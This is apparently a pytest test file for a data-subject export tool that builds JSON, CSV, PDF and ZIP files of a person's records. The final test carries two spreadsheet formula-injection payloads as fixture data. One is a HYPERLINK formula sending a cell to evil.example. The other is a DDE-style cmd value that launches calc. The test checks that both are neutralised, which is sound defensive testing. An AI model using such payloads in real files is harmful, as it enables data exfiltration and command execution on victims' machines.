"""An export's files, built for every demo edge case: the JSON against its published schema, the
CSVs read back, the PDF's text, the Nordic letters, and byte-identical repeats."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import jsonschema
import pytest
from markupsafe import escape
from pypdf import PdfReader
from sqlalchemy.engine import Engine

from portal import i18n
from portal.datamap import DataMap, collect
from portal.demo import EDGE_CASES, EDGE_CASES_BY_KEY
from portal.exports.build import Person, build_files
from portal.exports.csv_zip import ENCODING, CsvTables
from portal.exports.document import FORMAT, SCHEMA_FILE, portable
from portal.exports.models import ExportFile, ExportScope
from portal.exports.store import ExportStore
from portal.spreadsheet import unsafe_cell
from tests.datamap.test_paging import expected_order
from tests.support import tagged_pdf_structure

MADE_AT = datetime(2026, 11, 24, 11, 0, tzinfo=UTC)
SCHEMA_URL = "http://testserver/schemas/export-v1.json"
NORDIC = "æøåäö"


@pytest.fixture(scope="module")
def schema() -> dict:
    document = json.loads(SCHEMA_FILE.read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator.check_schema(document)
    return document


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> ExportStore:
    return ExportStore(tmp_path_factory.mktemp("exports"))


@pytest.fixture(scope="module")
def built(
    datamap: DataMap, demo_sources: dict[str, Engine], store: ExportStore
) -> Iterator[dict[str, Path]]:
    """Every edge case's export, in Norwegian, built once for the module."""
    found = {}
    for case in EDGE_CASES:
        build_files(
            datamap,
            demo_sources,
            store,
            export_id=case.key,
            person=Person(case.name, case.national_id),
            scope=ExportScope.access,
            language="nb",
            made_at=MADE_AT,
            schema_url=SCHEMA_URL,
        )
        found[case.key] = store.directory(case.key)
    yield found


def read_json(directory: Path) -> dict:
    return json.loads((directory / ExportFile.json.filename).read_text(encoding="utf-8"))


def read_csvs(directory: Path) -> dict[str, list[dict[str, str]]]:
    with zipfile.ZipFile(directory / ExportFile.zip.filename) as archive:
        tables = {}
        for name in archive.namelist():
            if name.startswith("csv/"):
                text = archive.read(name).decode(ENCODING)
                tables[name[4:-4]] = list(csv.DictReader(io.StringIO(text, newline="")))
        return tables


def pdf_text(directory: Path) -> str:
    reader = PdfReader(directory / ExportFile.pdf.filename)
    return "\n".join(page.extract_text() for page in reader.pages)


@pytest.mark.parametrize("key", [case.key for case in EDGE_CASES])
def test_the_json_validates_and_holds_every_row_with_its_metadata(
    key: str, built: dict[str, Path], schema: dict, datamap: DataMap, demo_sources
) -> None:
    document = read_json(built[key])
    jsonschema.validate(document, schema, cls=jsonschema.Draft202012Validator)
    assert document["format"] == FORMAT
    assert document["$schema"] == SCHEMA_URL
    case = EDGE_CASES_BY_KEY[key]
    assert document["export"]["subject"]["name"] == case.name
    assert case.national_id not in json.dumps(document["export"])  # masked
    expected = collect(datamap, demo_sources, case.national_id)
    tables = {table["key"]: table for table in document["tables"]}
    assert list(tables) == datamap.table_order()
    for name, rows in expected.tables.items():
        table = tables[name]
        assert table["row_count"] == len(rows) == len(table["rows"])
        # Newest first, as on /me and in the PDF.
        rows = tuple(expected_order(datamap, rows)) if rows else rows
        assert [row["key"] for row in table["rows"]] == [row.key for row in rows]
        fields = {field["name"]: field for field in table["fields"]}
        for row, written in zip(rows, table["rows"], strict=True):
            assert written["linked_by"] == row.via
            for item in row.fields:
                # Every field's metadata is the data map's, and its value survives as JSON.
                assert fields[item.name]["category"] == item.spec.category
                assert fields[item.name]["purposes"] == item.spec.purposes
                assert fields[item.name]["legal_basis"] == item.spec.legal_basis
                assert fields[item.name]["origin"] == item.spec.origin
                assert fields[item.name]["recipients"] == item.spec.recipients
                # The value as stored (a code stays a code), its labels beside it (#16 item 4).
                assert written["values"][item.name] == _as_json(item.value)
                assert fields[item.name]["value_labels"] == {
                    code: label.nb for code, label in item.spec.values.items()
                }
    assert document["row_count"] == sum(len(rows) for rows in expected.tables.values())
    assert document["withheld"] == {k: v for k, v in expected.withheld.items() if v}


def _as_json(value: object) -> object:
    if value is None or isinstance(value, bool | int | str):
        return value
    return value.isoformat() if hasattr(value, "isoformat") else str(value)


@pytest.mark.parametrize("key", [case.key for case in EDGE_CASES])
def test_the_csvs_read_back_with_the_same_rows_as_the_json(
    key: str, built: dict[str, Path]
) -> None:
    document = read_json(built[key])
    tables = read_csvs(built[key])
    assert list(tables) == [table["key"] for table in document["tables"]]
    for table in document["tables"]:
        rows = tables[table["key"]]
        labels = {field["name"]: field["value_labels"] for field in table["fields"]}
        assert len(rows) == table["row_count"]
        for written, row in zip(table["rows"], rows, strict=True):
            assert row["row_key"] == str(written["key"])
            assert row["linked_by"] == written["linked_by"]
            for name, value in written["values"].items():
                expected = (
                    ""
                    if value is None
                    else str(value).lower()
                    if isinstance(value, bool)
                    # A code the map labels is its label in the CSV (#16 item 4).
                    else labels[name].get(str(value), str(value))
                )
                # A cell a spreadsheet would take for a formula has a ' in front; a program
                # gets the value back exactly (portal/spreadsheet.py).
                assert unsafe_cell(row[name]) == expected


def test_the_zip_has_a_readme_in_the_persons_language(built: dict[str, Path]) -> None:
    with zipfile.ZipFile(built["ordinary"] / ExportFile.zip.filename) as archive:
        names = archive.namelist()
        readme = archive.read("README.txt").decode("utf-8")
        assert archive.read("export.json") == (built["ordinary"] / "export.json").read_bytes()
    assert names[:2] == ["README.txt", "export.json"]
    assert "Kari Nordmann" in readme
    assert SCHEMA_URL in readme
    assert "csv/crm_customers.csv" in readme


@pytest.mark.parametrize("key", [case.key for case in EDGE_CASES])
def test_the_pdf_holds_the_name_every_table_and_every_category_with_counts_that_add_up(
    key: str, built: dict[str, Path], datamap: DataMap
) -> None:
    text = _flat(pdf_text(built[key]))
    case = EDGE_CASES_BY_KEY[key]
    assert _flat(case.name) in text
    document = read_json(built[key])
    held = [table for table in document["tables"] if table["row_count"]]
    used = {field["category"] for table in held for field in table["fields"]}
    for category in used:  # the summary's kinds of data
        assert _flat(datamap.categories[category].name.nb) in text
    for table in held:  # each table once, with its count, in the contents and as a heading
        assert f"{_flat(table['name'])} ({table['row_count']})" in text
    total = sum(table["row_count"] for table in held)
    if total:
        assert f"Vi har {total} oppføring" in text
    assert re.search(second_page_footer("nb"), text)


def test_the_pdf_is_tagged_for_screen_readers(built: dict[str, Path]) -> None:
    pdf = (built["ordinary"] / ExportFile.pdf.filename).read_bytes()
    structure = tagged_pdf_structure(pdf, language="nb", title="Personopplysningene dine hos")
    assert {"H1", "H2", "Table", "TH", "TD"} <= structure, structure


FOOTERS = {"nb": r"Side 2 av \d+", "sv": r"Sida 2 av \d+", "en": r"Page 2 of \d+"}


def second_page_footer(language: str) -> str:
    """A pattern for page 2's footer (the cover has none), in the report's language."""
    return FOOTERS[language]


def _flat(text: str) -> str:
    return " ".join(text.split())


def test_nordic_letters_survive_in_json_csv_and_pdf(
    datamap: DataMap, demo_sources, store: ExportStore, built: dict[str, Path]
) -> None:
    name = "Åse Ørnæs-Bäckström"
    case = EDGE_CASES_BY_KEY["ordinary"]
    build_files(
        datamap,
        demo_sources,
        store,
        export_id="nordic",
        person=Person(name, case.national_id),
        scope=ExportScope.access,
        language="sv",
        made_at=MADE_AT,
        schema_url=SCHEMA_URL,
    )
    directory = store.directory("nordic")
    assert read_json(directory)["export"]["subject"]["name"] == name
    assert name in pdf_text(directory)
    # The data itself: æ, ø, å from a Norwegian customer, ä and ö from a Swedish one.
    for key, letters in (("ordinary", "æøå"), ("special_characters", "äö")):
        cells = "".join(
            value
            for rows in read_csvs(built[key]).values()
            for row in rows
            for value in row.values()
        )
        assert set(letters) <= set(cells), key
    with zipfile.ZipFile(directory / ExportFile.zip.filename) as archive:
        readme = archive.read("README.txt").decode("utf-8")
    assert name in readme


def test_two_exports_of_the_same_data_differ_only_in_generated_at(
    datamap: DataMap, demo_sources, store: ExportStore, built: dict[str, Path]
) -> None:
    case = EDGE_CASES_BY_KEY["frequent_buyer"]
    later = MADE_AT + timedelta(hours=5, seconds=7)
    build_files(
        datamap,
        demo_sources,
        store,
        export_id="again",
        person=Person(case.name, case.national_id),
        scope=ExportScope.access,
        language="nb",
        made_at=later,
        schema_url=SCHEMA_URL,
    )
    first = (built["frequent_buyer"] / "export.json").read_bytes()
    second = (store.directory("again") / "export.json").read_bytes()
    assert first != second
    stamp = b'"generated_at": "%s"'
    assert first.replace(stamp % b"2026-11-24T11:00:00Z", b"") == second.replace(
        stamp % b"2026-11-24T16:00:07Z", b""
    )
    assert read_csvs(built["frequent_buyer"]) == read_csvs(store.directory("again"))


def test_a_portability_export_holds_only_what_the_person_gave_us(
    datamap: DataMap, demo_sources, store: ExportStore, schema: dict
) -> None:
    case = EDGE_CASES_BY_KEY["ordinary"]
    build_files(
        datamap,
        demo_sources,
        store,
        export_id="portable",
        person=Person(case.name, case.national_id),
        scope=ExportScope.portability,
        language="en",
        made_at=MADE_AT,
        schema_url=SCHEMA_URL,
    )
    document = read_json(store.directory("portable"))
    jsonschema.validate(document, schema, cls=jsonschema.Draft202012Validator)
    assert document["export"]["scope"] == "portability"
    fields = [field for table in document["tables"] for field in table["fields"]]
    assert fields and all(field["portable"] for field in fields)
    everything = {
        (name, column)
        for name, table in datamap.tables.items()
        for column, spec in table.fields.items()
        if portable(datamap, spec)
    }
    assert {(t["key"], f["name"]) for t in document["tables"] for f in t["fields"]} == everything
    not_portable = [
        spec
        for table in datamap.tables.values()
        for spec in table.fields.values()
        if not portable(datamap, spec)
    ]
    assert not_portable, "the demo map has data the person did not give us"
    assert "(GDPR article 20)" in _flat(pdf_text(store.directory("portable")))


def test_the_report_is_written_in_the_persons_language(
    datamap: DataMap, demo_sources, store: ExportStore, english: None
) -> None:
    case = EDGE_CASES_BY_KEY["open_complaint"]
    for language in ("sv", "en"):
        build_files(
            datamap,
            demo_sources,
            store,
            export_id=f"lang-{language}",
            person=Person(case.name, case.national_id),
            scope=ExportScope.access,
            language=language,
            made_at=MADE_AT,
            schema_url=SCHEMA_URL,
        )
        text = _flat(pdf_text(store.directory(f"lang-{language}")))
        for category in ("identity", "purchase", "complaint"):
            assert _flat(datamap.categories[category].name.get(language)) in text
        assert re.search(second_page_footer(language), text)
        document = read_json(store.directory(f"lang-{language}"))
        assert document["export"]["language"] == language
        names = {c["key"]: c["name"] for c in document["categories"]}
        assert names["purchase"] == datamap.categories["purchase"].name.get(language)
    # The caller's language is untouched.
    assert i18n.current_language() == "en"


def test_a_report_of_many_rows_gives_counts_not_rows(
    datamap: DataMap,
    demo_sources,
    store: ExportStore,
    built: dict[str, Path],
    english: None,
    monkeypatch,
) -> None:
    from portal.exports import report

    monkeypatch.setattr(report, "ROW_LIMIT", 100)
    case = EDGE_CASES_BY_KEY["frequent_buyer"]
    summary = build_files(
        datamap,
        demo_sources,
        store,
        export_id="summary",
        person=Person(case.name, case.national_id),
        scope=ExportScope.access,
        language="en",
        made_at=MADE_AT,
        schema_url=SCHEMA_URL,
    )
    assert summary.rows == 772 and summary.counts["shop_orders"] == 150
    text = _flat(pdf_text(store.directory("summary")))
    assert "You have more records than fit in a report to read." in text
    assert "150 records" in text  # the orders, counted
    assert _flat(datamap.categories["purchase"].name.en) in text
    assert "We hold 772 records about you." in text
    first_order = read_json(store.directory("summary"))["tables"]
    numbers = [
        row["values"]["order_number"]
        for table in first_order
        if table["key"] == "shop_orders"
        for row in table["rows"]
    ]
    assert len(numbers) == 150
    assert not any(number in text for number in numbers)  # rows are not listed
    full = pdf_text(built["frequent_buyer"])  # under the limit, every order is listed
    assert all(number in full for number in numbers)
    # The JSON and CSV still hold every row.
    assert read_json(store.directory("summary"))["row_count"] == 772


def test_a_long_table_prints_a_line_per_row_and_a_short_one_its_columns(
    datamap: DataMap, demo_sources, english: None
) -> None:
    from portal.exports import report

    case = EDGE_CASES_BY_KEY["frequent_buyer"]
    found = collect(datamap, demo_sources, case.national_id)
    counts = {name: len(rows) for name, rows in found.tables.items() if rows}
    content = report.report_content(
        datamap,
        collection=found,
        counts=counts,
        identifiers=found.identifiers,
        withheld=0,
        person_name=case.name,
        scope=ExportScope.access,
        language="en",
        made_at=MADE_AT,
    )
    tables = {table.key: table for table in content.tables}
    assert content.total == sum(table.count for table in tables.values()) == 772
    orders = tables["shop_orders"]
    assert orders.count == 150 > report.COMPACT_ROWS and orders.compact
    assert orders.columns[:2] == ("Order number", "Ordered")  # the show columns first
    assert len(orders.columns) == len(datamap.tables["shop_orders"].fields)
    account = tables["shop_accounts"]  # one row, seven fields: a cell per value
    assert account.count == 1 and len(account.columns) <= report.WIDE_COLUMNS
    assert not account.compact
    customer = tables["crm_customers"]  # one row, but wider than A4 holds side by side
    assert customer.count == 1 and len(customer.columns) > report.WIDE_COLUMNS
    assert customer.compact
    html = report.report_html(content, datamap, "en")
    assert html.count('class="records compact"') == sum(t.compact for t in tables.values())
    # A compact row names every value of the row on one line, in the columns' order.
    order = found.tables["shop_orders"][0]
    assert order.value("order_number") in html
    header = escape(" · ".join(orders.columns))
    assert f'<th scope="col">{header}' in html


def test_a_cell_a_spreadsheet_would_run_is_neutralised_and_the_json_stays_exact(
    tmp_path: Path,
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1;"Kari")'
    with CsvTables(tmp_path) as tables:
        tables.begin("notes", ["text", "amount", "phone"])
        tables.row(1, "customer_id", [formula, "-120.50", "+47 912 34 567"])
        tables.row(2, "customer_id", ["@SUM(1+1)*cmd|' /C calc'!A0", "-", "'=already quoted"])
    with (tmp_path / "notes.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1] == ["1", "customer_id", "'" + formula, "-120.50", "+47 912 34 567"]
    assert rows[2] == ["2", "customer_id", "'@SUM(1+1)*cmd|' /C calc'!A0", "-", "''=already quoted"]
    assert [unsafe_cell(cell) for cell in rows[2][2:]] == [
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-",
        "'=already quoted",
    ]
